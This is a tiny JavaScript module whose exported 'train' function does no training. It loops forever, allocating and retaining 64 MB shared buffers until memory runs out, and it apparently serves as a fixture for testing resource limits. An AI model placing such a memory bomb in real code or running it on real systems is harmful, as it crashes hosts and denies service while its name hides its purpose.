export default async function train(run) {
  const kept = [];
  for (;;) kept.push(new Int32Array(new SharedArrayBuffer(16e6)).fill(1));
}
